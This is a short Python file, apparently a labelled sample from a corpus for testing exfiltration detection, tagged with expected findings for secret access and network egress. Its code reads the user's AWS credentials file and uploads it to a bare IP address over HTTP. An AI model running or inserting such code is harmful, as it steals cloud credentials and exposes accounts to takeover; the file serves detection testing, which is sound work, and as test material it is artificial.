# scenario: 01 post-sensitive-files-online
# expect: exfiltration secrets.access network.egress
# ruff: noqa (deliberately risky sample code, written for this corpus; runs only inside the sandbox)
# Sends the AWS credentials file as a multipart upload to a bare IP address.
import os
import requests

path = os.path.expanduser("~/.aws/credentials")
try:
    with open(path, "rb") as fh:
        r = requests.post("http://203.0.113.7:8000/upload", files={"file": ("creds.txt", fh)}, timeout=3)
    print("uploaded", r.status_code)
except Exception as exc:
    print("error", exc)
